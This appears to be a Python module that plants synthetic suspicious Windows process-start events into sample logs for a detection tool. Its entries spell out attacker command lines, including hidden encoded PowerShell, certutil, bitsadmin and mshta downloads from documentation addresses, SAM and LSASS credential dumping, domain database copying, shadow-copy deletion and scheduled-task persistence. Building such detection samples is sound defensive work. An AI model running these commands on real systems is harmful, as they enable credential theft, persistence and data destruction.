"""The process starts planted to be found. None is live: addresses and names are the ones kept for
documentation, and the coded script only prints a sentence."""

from base64 import b64encode

from .background import S32
from .world import SID

OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
CODED = b64encode("Write-Output 'a harmless line in a sample log of logwinnow'".encode("utf-16-le")).decode()
SCRIPT_HOST = S32 + "\\WindowsPowerShell\\v1.0\\powershell.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
CMD = S32 + "\\cmd.exe"

# minute of the week, host, account, image, parent, command, name, why
PLANTED = [
    (642, "HB-WS03", "user", SCRIPT_HOST, OFFICE + "WINWORD.EXE",
     f"powershell.exe -nop -w hidden -enc {CODED}",
     "word-starts-coded-script", "Word starts PowerShell with a hidden window and a base64 script"),
    (644, "HB-WS03", "user", S32 + "\\mshta.exe", SCRIPT_HOST,
     "mshta.exe http://files.example.test/invoice.hta",
     "mshta-url", "mshta runs a page from the web"),
    (651, "HB-WS03", "user", "C:\\Windows\\Fonts\\csrss.exe", EXPLORER,
     "C:\\Windows\\Fonts\\csrss.exe -q",
     "csrss-in-fonts", "a system name started from the Fonts folder"),
    (655, "HB-WS03", "user", S32 + "\\certutil.exe", CMD,
     "certutil -urlcache -split -f http://203.0.113.77/a.txt C:\\Users\\Public\\a.exe",
     "certutil-download", "certutil used to fetch a program from the web"),
    (702, "HB-WS03", "user", "C:\\Users\\Public\\rundll32.exe", CMD,
     "C:\\Users\\Public\\rundll32.exe C:\\Users\\Public\\inv.dat,Start",
     "rundll32-in-public", "a copy of rundll32 in Users\\Public"),
    (731, "HB-WS03", "user", S32 + "\\nltest.exe", OFFICE + "EXCEL.EXE",
     "nltest /dclist:harbour.test",
     "excel-asks-for-controllers", "Excel on a workstation asks for the domain controllers"),
    (1655, "HB-WS02", "user", "C:\\Users\\ben.okoro\\AppData\\Roaming\\svch0st.exe", EXPLORER,
     "C:\\Users\\ben.okoro\\AppData\\Roaming\\svch0st.exe /run",
     "svch0st-in-roaming", "a name that looks like svchost.exe, in a profile"),
    (1661, "HB-WS02", "user", S32 + "\\bitsadmin.exe", "C:\\Users\\ben.okoro\\AppData\\Roaming\\svch0st.exe",
     "bitsadmin /transfer upd /download /priority high http://198.51.100.23/p.bin C:\\ProgramData\\p.bin",
     "bitsadmin-download", "a file fetched by bitsadmin"),
    (1688, "HB-WS02", "user", f"C:\\$Recycle.Bin\\{SID}1105\\reg.exe", CMD,
     f"C:\\$Recycle.Bin\\{SID}1105\\reg.exe export HKCU\\Software\\Quayside q.reg",
     "reg-in-recycle-bin", "reg.exe run from the recycle bin"),
    (1712, "HB-WS02", "user", S32 + "\\wbem\\WMIC.exe", CMD,
     "wmic /node:192.0.2.21 process call create \"cmd.exe /c C:\\ProgramData\\p.bin\"",
     "wmic-remote-start", "a process started on another host through WMI"),
    (3098, "HB-FS01", "system", S32 + "\\suchost.exe", S32 + "\\services.exe",
     f"{S32}\\suchost.exe -k netsvcs",
     "suchost-in-system32", "one letter away from svchost.exe, in its folder"),
    (3104, "HB-FS01", "system", S32 + "\\schtasks.exe", S32 + "\\suchost.exe",
     "schtasks /create /ru SYSTEM /sc minute /mo 7 /tn \\Microsoft\\Windows\\Clok\\Sync /tr C:\\ProgramData\\p.bin",
     "schtasks-create", "a task every seven minutes under a made-up system folder"),
    (3121, "HB-FS01", "adm.eve", S32 + "\\rundll32.exe", CMD,
     f"rundll32.exe {S32}\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\l.dmp full",
     "memory-dump", "the memory of a process written out through comsvcs.dll"),
    (3125, "HB-FS01", "adm.eve", S32 + "\\reg.exe", CMD,
     "reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv",
     "reg-save-sam", "the account database of the host saved to a file"),
    (3140, "HB-FS01", "adm.eve", S32 + "\\net.exe", CMD,
     "net user helpdesk2 Example.Pass.1 /add /domain",
     "net-user-add", "an account is made from the command line"),
    (4510, "HB-DB01", "svc.web", S32 + "\\whoami.exe", CMD,
     "whoami /all",
     "service-asks-who-it-is", "the account of a web service asks for its rights"),
    (4517, "HB-DB01", "svc.web", "C:\\ProgramData\\Quayside\\lsass.exe", CMD,
     "C:\\ProgramData\\Quayside\\lsass.exe -l 8443",
     "lsass-in-programdata", "a system name in ProgramData, started by a web service"),
    (5712, "HB-DC01", "adm.eve", S32 + "\\ntdsutil.exe", CMD,
     "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\n\" q q",
     "directory-copied", "the directory of the domain copied from the command line"),
    (6290, "HB-FS01", "adm.eve", S32 + "\\vssadmin.exe", CMD,
     "vssadmin delete shadows /all /quiet",
     "shadows-deleted", "all shadow copies deleted where the backup only lists them"),
    (6294, "HB-FS01", "adm.eve", S32 + "\\ls\u0430ss.exe", CMD,
     f"{S32}\\ls\u0430ss.exe -w",
     "lsass-with-cyrillic-letter", "lsass.exe spelt with a Cyrillic a"),
]
